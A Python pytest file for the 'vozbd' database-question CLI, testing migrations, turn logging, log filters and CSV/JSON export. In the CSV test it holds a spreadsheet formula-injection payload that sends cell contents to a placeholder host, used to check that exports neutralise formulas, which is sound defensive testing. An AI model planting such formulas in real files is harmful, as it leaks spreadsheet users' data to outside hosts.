"""``vozbd db-upgrade`` and ``vozbd logs``, and CLI ``ask``/``chat`` turns landing in ``conversation_logs``."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from typer.testing import CliRunner

from vozbd.appdb.database import open_app_database
from vozbd.appdb.logs import TurnLog
from vozbd.appdb.migrate import head_revisions
from vozbd.cli.app import app
from vozbd.cli.logs import parse_since

ROOT = Path(__file__).resolve().parents[2]
SCRIPT = ROOT / "tests" / "agent" / "scripts" / "demo.yaml"
PROVIDER_ENV = ("OPENAI_API_KEY", "GEMINI_API_KEY", "GOOGLE_API_KEY", "OPENROUTER_API_KEY", "VOZBD_MODEL")


@pytest.fixture(autouse=True)
def _isolated(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    for name in (*PROVIDER_ENV, "VOZBD_DATABASE_URL"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("VOZBD_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("VOZBD_OLLAMA_BASE_URL", "http://127.0.0.1:9")
    monkeypatch.setenv("VOZBD_OPENAI_COMPATIBLE_BASE_URL", "http://127.0.0.1:9/v1")
    monkeypatch.chdir(tmp_path)


def _app_db_url(tmp_path: Path) -> str:
    return f"sqlite:///{tmp_path / 'data' / 'app.sqlite3'}"


def test_db_upgrade_migrates_once(tmp_path: Path) -> None:
    runner = CliRunner()
    first = runner.invoke(app, ["db-upgrade"])
    assert first.exit_code == 0, first.output
    assert f"migrado de vazio para {max(head_revisions())}" in first.output
    second = runner.invoke(app, ["db-upgrade"])
    assert second.exit_code == 0 and "já atualizado" in second.output
    assert (tmp_path / "data" / "app.sqlite3").exists()


@pytest.mark.parametrize("revision", ["garbage", "-1"])
def test_db_upgrade_to_a_revision_that_does_not_exist_is_a_usage_error(tmp_path: Path, revision: str) -> None:
    result = CliRunner().invoke(app, ["db-upgrade", "--revision", revision])
    assert result.exit_code == 2, result.output  # was an alembic CommandError traceback (exit 1)
    output = " ".join(result.output.split())
    assert "Revisão de migração inválida" in output and f"'{revision}'" in output
    assert "0001, 0002" in output and max(head_revisions()) in output  # the existing revisions are listed


def test_db_upgrade_against_postgres(monkeypatch: pytest.MonkeyPatch, pg_url: str) -> None:
    monkeypatch.setenv("VOZBD_DATABASE_URL", pg_url.replace("postgresql+psycopg://", "postgresql://"))
    result = CliRunner().invoke(app, ["db-upgrade"])
    assert result.exit_code == 0, result.output
    assert "postgresql+psycopg://" in result.output


def test_unreachable_app_database_is_a_clear_error(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("VOZBD_DATABASE_URL", "postgresql://nobody@127.0.0.1:9/vozbd")
    result = CliRunner().invoke(app, ["logs"])
    assert result.exit_code == 4
    assert "app_db_unavailable" in result.output and "Traceback" not in result.output
    bad = CliRunner().invoke(app, ["db-upgrade"], env={"VOZBD_DATABASE_URL": "nota url"})
    assert bad.exit_code == 2 and "VOZBD_DATABASE_URL inválida" in bad.output


@pytest.mark.parametrize(
    ("url", "message"),
    [
        ("mysql://root@127.0.0.1:3306/vozbd", "driver não instalado (mysql)"),  # the DBAPI (MySQLdb) is missing
        ("sqlite:////proc/vozbd/app.sqlite3", "não consegui criar a pasta do banco SQLite (/proc/vozbd)"),
    ],
)
def test_an_unusable_app_database_url_is_a_usage_error_not_a_traceback(url: str, message: str) -> None:
    result = CliRunner().invoke(app, ["db-upgrade"], env={"VOZBD_DATABASE_URL": url})
    assert result.exit_code == 2, result.output
    assert "app_db_config" in result.output and message in " ".join(result.output.split())


def test_ask_and_chat_turns_are_logged(tmp_path: Path) -> None:
    runner = CliRunner()
    model = ["--model", f"scripted/{SCRIPT}"]
    asked = runner.invoke(app, ["ask", "Quantos clientes temos?", *model, "--conversation", "cli-log"])
    assert asked.exit_code == 0, asked.output
    chatted = runner.invoke(app, ["chat", *model], input="Quantos pedidos em maio?\n/sair\n")
    assert chatted.exit_code == 0, chatted.output
    result = runner.invoke(app, ["logs", "--json"])
    assert result.exit_code == 0, result.output
    rows = json.loads(result.output)
    assert [r["question"] for r in rows] == ["Quantos clientes temos?", "Quantos pedidos em maio?"]
    first = rows[0]
    assert first["conversation_id"] == "cli-log" and first["surface"] == "cli" and first["input_mode"] == "text"
    assert first["sql"].startswith("SELECT COUNT(*)") and first["row_count"] == 1
    assert first["model"] == f"scripted/{SCRIPT}" and first["timings"]["total_ms"] > 0
    assert first["user_id"] and first["error"] is None
    assert rows[1]["conversation_id"].startswith("chat-")


def _seed(tmp_path: Path) -> None:
    database = open_app_database(_app_db_url(tmp_path))
    now = datetime.now(UTC)
    database.logs.write_turn(
        TurnLog(conversation_id="old", surface="api", question="antiga", created_at=now - timedelta(days=2))
    )
    database.logs.write_turn(
        TurnLog(conversation_id="new", surface="ui", question='com "aspas", vírgula', sql="SELECT 1", row_count=1)
    )
    database.dispose()


def test_logs_csv_does_not_hand_a_spreadsheet_formulas(tmp_path: Path) -> None:
    database = open_app_database(_app_db_url(tmp_path))
    formula = '=HYPERLINK("http://exemplo.invalid/?"&A1,"clique")'
    database.logs.write_turn(
        TurnLog(conversation_id="f", surface="api", question=formula, answer="-1 pedidos", row_count=3)
    )
    database.dispose()
    runner = CliRunner()
    parsed = list(csv.DictReader(io.StringIO(runner.invoke(app, ["logs", "--csv"]).output)))
    assert parsed[0]["question"] == "'" + formula and parsed[0]["answer"] == "'-1 pedidos"
    assert parsed[0]["row_count"] == "3"  # numbers are numbers
    exact = json.loads(runner.invoke(app, ["logs", "--json"]).output)
    assert exact[0]["question"] == formula  # --json keeps the text as logged


def test_logs_filters_and_formats(tmp_path: Path) -> None:
    _seed(tmp_path)
    runner = CliRunner()
    table = runner.invoke(app, ["logs"])
    assert table.exit_code == 0 and "antiga" in table.output and "2 turno(s)" in table.output
    recent = json.loads(runner.invoke(app, ["logs", "--since", "1d", "--json"]).output)
    assert [r["conversation_id"] for r in recent] == ["new"]
    only = json.loads(runner.invoke(app, ["logs", "--conversation", "old", "--json"]).output)
    assert [r["question"] for r in only] == ["antiga"]
    out = runner.invoke(app, ["logs", "--csv"]).output
    parsed = list(csv.DictReader(io.StringIO(out)))
    assert [r["question"] for r in parsed] == ["antiga", 'com "aspas", vírgula']
    assert parsed[1]["row_count"] == "1" and json.loads(parsed[1]["timings"]) == {}
    empty = runner.invoke(app, ["logs", "--conversation", "none"])
    assert empty.exit_code == 0 and "Nenhum turno" in empty.output


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--since", "ontem"], "--since inválido"),
        (["--json", "--csv"], "não os dois"),
        (["--surface", "fax"], "--surface deve ser"),
    ],
)
def test_logs_bad_options(args: list[str], message: str) -> None:
    result = CliRunner().invoke(app, ["logs", *args])
    assert result.exit_code == 2 and message in result.output


def test_parse_since() -> None:
    now = datetime(2026, 5, 10, 12, 0, tzinfo=UTC)
    assert parse_since("30m", now=now) == now - timedelta(minutes=30)
    assert parse_since("2h", now=now) == now - timedelta(hours=2)
    assert parse_since("1w", now=now) == now - timedelta(days=7)
    assert parse_since("2026-05-01", now=now) == datetime(2026, 5, 1, tzinfo=UTC)
    assert parse_since("2026-05-01T10:00-03:00").hour == 10
    with pytest.raises(ValueError):
        parse_since("ontem")


@pytest.mark.parametrize("since", ["99999999999d", "999999999w", "3000000d"])
def test_a_since_further_back_than_dates_go_means_everything(tmp_path: Path, since: str) -> None:
    assert parse_since(since) == datetime.min.replace(tzinfo=UTC)  # was an OverflowError traceback
    database = open_app_database(_app_db_url(tmp_path))
    database.logs.write_turn(TurnLog(conversation_id="antiga", surface="cli", question="oi"))
    database.dispose()
    result = CliRunner().invoke(app, ["logs", "--since", since, "--json"])
    assert result.exit_code == 0, result.output
    assert [row["conversation_id"] for row in json.loads(result.output)] == ["antiga"]


def test_ask_with_unreachable_postgres_memory_exits_4(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("VOZBD_DATABASE_URL", "postgresql://nobody@127.0.0.1:9/vozbd")
    result = CliRunner().invoke(app, ["ask", "Quantos clientes temos?", "--model", f"scripted/{SCRIPT}"])
    assert result.exit_code == 4, result.output
    assert "memory_unavailable" in result.output and "Traceback" not in result.output
